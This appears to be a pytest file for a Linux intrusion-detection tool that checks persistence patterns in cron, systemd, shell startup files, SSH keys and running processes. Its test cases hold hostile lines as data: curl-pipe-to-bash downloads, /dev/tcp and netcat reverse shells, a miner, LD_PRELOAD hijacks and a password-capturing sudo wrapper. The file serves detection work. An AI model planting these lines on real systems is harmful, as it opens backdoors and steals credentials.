"""What speaks against itself: each pattern on a line that it must find and on honest ones, and what runs."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from soc_tui.detection.persistence.content import patterns, suspicious
from soc_tui.detection.persistence.snapshot import snapshot
from soc_tui.detection.rooted import Root
from soc_tui.detection.system.packages.owned import Owned
from soc_tui.detection.tools import Finding
from tests.detection.machine import Machine, told


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    (tmp_path / "root").mkdir()
    return Machine(tmp_path / "root")


def look(machine: Machine) -> list[Finding]:
    return suspicious(snapshot(machine.root, machine.watch), Owned(Root(machine.root), machine.watch))


CRON, UNIT, RC, KEYS = "etc/cron.d/job", "etc/systemd/system/x.service", "root/.bashrc", "home/eve/.ssh/authorized_keys"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRlc3Q eve@example"


@pytest.mark.parametrize(
    ("path", "line", "check", "severity"),
    [
        (CRON, "* * * * * root curl -fsSL http://203.0.113.9/x.sh | bash", "downloads-and-runs", "critical"),
        (CRON, "*/5 * * * * www-data wget -qO- http://203.0.113.9/i.sh|sh", "downloads-and-runs", "critical"),
        ("var/spool/cron/crontabs/eve", "@reboot bash -c \"$(curl -s http://203.0.113.9/x)\"", "downloads-and-runs", "critical"),
        (UNIT, "ExecStart=/bin/sh -c 'wget http://203.0.113.9/m -O /tmp/m && chmod +x /tmp/m'", "downloads-and-runs", "critical"),
        (RC, "eval \"$(curl -s http://203.0.113.9/x)\"", "downloads-and-runs", "critical"),
        (CRON, "0 * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "opens-a-shell", "critical"),
        ("etc/rc.local", "nc -e /bin/sh 203.0.113.9 4444 &", "opens-a-shell", "critical"),
        (KEYS, f'command="socat tcp:203.0.113.9:1 exec:/bin/sh" {KEY}', "opens-a-shell", "critical"),
        (UNIT, "ExecStart=/usr/bin/python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", "opens-a-shell", "critical"),
        (UNIT, "ExecStart=/usr/local/bin/.k -o stratum+tcp://203.0.113.9:3333", "mines", "high"),
        (CRON, "0 0 * * * root echo aGk= | base64 -d | sh", "decodes-and-runs", "critical"),
        ("etc/ld.so.preload", "/dev/shm/libx.so", "preload-in-open-folder", "critical"),
        ("etc/ld.so.preload", "/lib/libselinux.so.8", "preload", "high"),
        (UNIT, "Environment=LD_PRELOAD=/usr/lib/libx.so", "preload-in-environment", "high"),
        ("etc/environment", "LD_PRELOAD=/usr/lib/libx.so", "preload-in-environment", "high"),
        (UNIT, "ExecStart=/dev/shm/.d/agent --quiet", "unit-from-open-folder", "critical"),
        (UNIT, "ExecStartPre=-/bin/bash /tmp/setup.sh", "unit-from-open-folder", "critical"),
        (CRON, "17 * * * * root /tmp/.x/update", "command-from-open-folder", "high"),
        ("var/spool/cron/crontabs/eve", "@reboot /var/tmp/agent", "command-from-open-folder", "high"),
        (RC, "source /tmp/x", "command-from-open-folder", "high"),
        ("etc/udev/rules.d/9.rules", 'ACTION=="add", RUN+="/bin/sh /tmp/x"', "command-from-open-folder", "high"),
        (CRON, "17 * * * * root /usr/share/.cache/upd", "hidden-program", "medium"),
        (KEYS, f'environment="LD_PRELOAD=/home/eve/x.so" {KEY}', "key-sets-environment", "high"),
        (KEYS, f'no-pty,command="/usr/local/bin/task" {KEY}', "key-with-command", "medium"),
        ("etc/modprobe.d/x.conf", "install vfat /usr/local/bin/x", "module-runs-command", "medium"),
        ("etc/apt/apt.conf.d/99x", 'APT::Update::Pre-Invoke {"nohup /tmp/x &";};', "package-hook-runs-code", "high"),
        (RC, "alias sudo='/home/eve/.local/bin/sudo-log'", "shell-command-replaced", "high"),
        ("etc/profile.d/x.sh", "sudo() { read -s p; /usr/bin/sudo \"$@\"; }", "shell-command-replaced", "high"),
        (RC, "export HISTFILE=/dev/null", "history-switched-off", "medium"),
    ],
)  # fmt: skip
def test_what_a_pattern_finds(machine: Machine, path: str, line: str, check: str, severity: str) -> None:
    machine.write(path, f"# a comment with curl x | sh\n\n{line}\n")
    (found,) = look(machine)
    assert told([found]) == [(severity, check, f"/{path}:3")]
    assert found.evidence == line.encode()
    assert found.techniques


HONEST = {
    CRON: "SHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
    "0 3 * * * root find /tmp -mtime +7 -delete\n5 4 * * * root curl -fsS https://hc.example/ping > /dev/null\n"
    "0 1 * * * backup tar czf /var/tmp/backup.tgz /srv\n30 2 * * * root /usr/local/bin/backup.sh >/tmp/backup.log 2>&1\n"
    "0 5 * * * root test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )\n"
    "1 1 * * * root /root/.acme.sh/acme.sh --cron\n",
    UNIT: "[Unit]\nDescription=nc -e is not run\n[Service]\nExecStart=/usr/sbin/x --tmp /tmp/x --socket /run/x.sock\n"
    "ExecStart=/bin/sh -c 'exec /usr/bin/y >/tmp/log'\nPrivateTmp=yes\nEnvironment=LD_PRELOAD=/usr/lib/libjemalloc.so.2\n",
    RC: "alias ls='ls --color'\nalias ssh='TERM=xterm ssh'\nalias sudo='sudo '\nHISTSIZE=1000\nHISTFILESIZE=2000\n"
    '[ -f ~/.fzf.bash ] && source ~/.fzf.bash\neval "$(dircolors -b)"\nexport TMPDIR=/tmp\n[ -z "$PS1" ] && return\n',
    KEYS: f'{KEY}\ncommand="borg serve --restrict-to-path /srv",restrict {KEY}\ncommand="/usr/bin/rrsync /srv" {KEY}\n',
    "etc/modprobe.d/b.conf": "blacklist pcspkr\ninstall usb-storage /bin/true\noptions kvm nested=1\n",
    "etc/apt/apt.conf.d/70": 'DPkg::Post-Invoke { "rm -f /var/cache/apt/*.bin || true"; };\n',
    "etc/rc.local": "#!/bin/sh -e\n/usr/sbin/ethtool -K eth0 gro off\nexit 0\n",
    "etc/udev/rules.d/7.rules": 'SUBSYSTEM=="net", RUN+="/usr/lib/udev/net-setup"\n',
    "etc/passwd": "root:x:0:0::/root:/bin/bash\neve:x:1000:1000::/home/eve:/bin/bash\n",
    "etc/sudoers": "Defaults env_reset\n%sudo ALL=(ALL:ALL) ALL\n",
}


def test_honest_lines_are_left_alone(machine: Machine) -> None:
    for path, content in HONEST.items():
        machine.write(path, content)
    assert told(look(machine)) == []
    assert machine.notes == []


def test_every_pattern_has_a_case_above() -> None:
    cases = test_what_a_pattern_finds.pytestmark[0].args[1]  # type: ignore[attr-defined]
    assert {one["id"] for one in patterns()} == {case[2] for case in cases}


def test_a_file_as_its_package_brought_it_is_not_judged(machine: Machine) -> None:
    import hashlib

    content = b"[Service]\nExecStart=/tmp/x\n"
    machine.write("usr/lib/systemd/system/x.service", content)
    digest = hashlib.md5(content).hexdigest()
    machine.write("var/lib/dpkg/info/x.md5sums", f"{digest}  lib/systemd/system/x.service\n")
    assert look(machine) == []
    machine.write("usr/lib/systemd/system/x.service", content + b"\n")
    assert told(look(machine)) == [("critical", "unit-from-open-folder", "/usr/lib/systemd/system/x.service:2")]


def process(
    machine: Machine, pid: int, exe: str, command: str = "x", environment: str = "", sockets: tuple[int, ...] = ()
) -> None:
    machine.write(f"proc/{pid}/cmdline", command.replace(" ", "\0") + "\0")
    machine.write(f"proc/{pid}/status", f"Name:\tx\nUid:\t{1000 + pid}\t0\t0\t0\n")
    machine.write(f"proc/{pid}/environ", environment)
    machine.link(f"proc/{pid}/exe", exe)
    for number, inode in enumerate(sockets):
        machine.link(f"proc/{pid}/fd/{number}", f"socket:[{inode}]")


def test_what_runs_and_should_not(machine: Machine) -> None:
    machine.write("var/lib/dpkg/info/sshd.list", "/usr/sbin/sshd\n")
    machine.write("opt/new", "x")
    for pid, (exe, command, environment) in enumerate((
        ("/usr/sbin/sshd (deleted)", "sshd", ""), ("/opt/new (deleted)", "new", ""), ("/opt/old (deleted)", "old", ""),
        ("/tmp/x (deleted)", "[kworker/0:1]", ""), ("/dev/shm/y", "y", ""), ("/memfd:a (deleted)", "a", ""),
        ("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", ""), ("/usr/bin/z", "z", "HOME=/\0LD_PRELOAD=/tmp/l.so\0"),
        ("/usr/bin/w", "w", "LD_PRELOAD=/usr/lib/libjemalloc.so\0"),
    ), 10):  # fmt: skip
        process(machine, pid, exe, command, environment)
    (machine.root / "proc/99").mkdir()  # a kernel thread
    found = look(machine)
    assert told(found) == [
        ("medium", "process-deleted", "/opt/old"), ("critical", "process-deleted", "/tmp/x"),
        ("medium", "process-from-open-folder", "/dev/shm/y"), ("high", "process-in-memory", "/memfd:a"),
        ("high", "process-preload", "LD_PRELOAD=/tmp/l.so /usr/bin/z"),
    ]  # fmt: skip
    assert found[1].evidence == b"/proc/13/exe -> /tmp/x (deleted)\n[kworker/0:1]"
    assert found[1].fields == {"pid": "13", "command": "[kworker/0:1]", "uid": "1013"}


TCP = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"


def socket_line(address: str, state: str, inode: int) -> str:
    return f"   0: {address} 00000000:0000 {state} 00000000:00000000 00:00000000 00000000     0        0 {inode} 1 0 0 10 0\n"


def test_what_listens_and_should_not(machine: Machine) -> None:
    machine.write("proc/net/tcp", TCP + socket_line("00000000:115C", "0A", 1) + socket_line("0100007F:0016", "0A", 2)
                  + socket_line("00000000:1F90", "0A", 3) + socket_line("00000000:0050", "01", 4) + "junk\n")  # fmt: skip
    machine.write("proc/net/udp6", TCP + socket_line("00000000000000000000000000000000:0035", "07", 5)
                  + socket_line("00000000000000000000000000000000:EA5F", "07", 6))  # fmt: skip
    process(machine, 20, "/tmp/.a", sockets=(1,))
    process(machine, 21, "/usr/sbin/sshd", sockets=(2,))
    process(machine, 22, "/usr/bin/python3.11", "python3 /dev/shm/s.py 8080", sockets=(3,))
    process(machine, 23, "/usr/sbin/named", sockets=(4, 5, 6))
    now = snapshot(machine.root, machine.watch)
    assert [(one.name, one.exe, one.pid) for one in now.listeners] == [
        ("tcp 0.0.0.0:4444", "/tmp/.a", 20), ("tcp 0.0.0.0:8080", "/usr/bin/python3.11", 22),
        ("tcp 127.0.0.1:22", "/usr/sbin/sshd", 21), ("udp [::]:53", "/usr/sbin/named", 23),
    ]  # fmt: skip
    assert told(look(machine)) == [
        ("medium", "process-from-open-folder", "/tmp/.a"),
        ("high", "listener-from-open-folder", "tcp 0.0.0.0:4444 /tmp/.a"),
        ("medium", "listener-from-open-folder", "tcp 0.0.0.0:8080 /usr/bin/python3.11"),
    ]


@pytest.mark.skipif(os.geteuid() != 0 or not sys.platform.startswith("linux"), reason="needs root to look at processes")
def test_a_real_listener_whose_program_was_deleted(tmp_path: Path) -> None:
    program = Path(f"/dev/shm/soc-tui-test-{os.getpid()}")
    shutil.copy(Path(sys.executable).resolve(), program)
    code = "import socket,sys;s=socket.create_server(('127.0.0.1',0));print(s.getsockname()[1],flush=True);sys.stdin.read()"
    environment = {"PYTHONHOME": sys.base_prefix, "LD_LIBRARY_PATH": f"{sys.base_prefix}/lib"}
    with subprocess.Popen(
        [program, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=environment
    ) as running:
        try:
            assert running.stdout is not None
            port = int(running.stdout.readline())
            program.unlink()
            machine = Machine(tmp_path)
            for name in ("net", str(running.pid)):
                (tmp_path / "proc").mkdir(exist_ok=True)
                mirror(Path("/proc") / name, tmp_path / "proc" / name)
            found = look(machine)
        finally:
            program.unlink(missing_ok=True)
            running.kill()
    assert told(found) == [
        ("critical", "process-deleted", str(program)),
        ("high", "listener-from-open-folder", f"tcp 127.0.0.1:{port} {program}"),
    ]
    assert found[0].evidence.startswith(f"/proc/{running.pid}/exe -> {program} (deleted)\n".encode())
    with pytest.raises(OSError, match="refused"):
        socket.create_connection(("127.0.0.1", port), 1)


def mirror(source: Path, to: Path) -> None:
    """What the kernel says of one process, or of its network, as files: a look at one process of a busy machine."""
    to.mkdir()
    names = ("tcp", "tcp6", "udp", "udp6") if source.name == "net" else ("cmdline", "status", "environ", "exe", "fd")
    for name in names:
        if name == "exe":
            (to / name).symlink_to((source / name).readlink())
        elif name == "fd":
            (to / name).mkdir()
            for one in (source / name).iterdir():
                (to / name / one.name).symlink_to(one.readlink())
        else:
            (to / name).write_bytes((source / name).read_bytes())
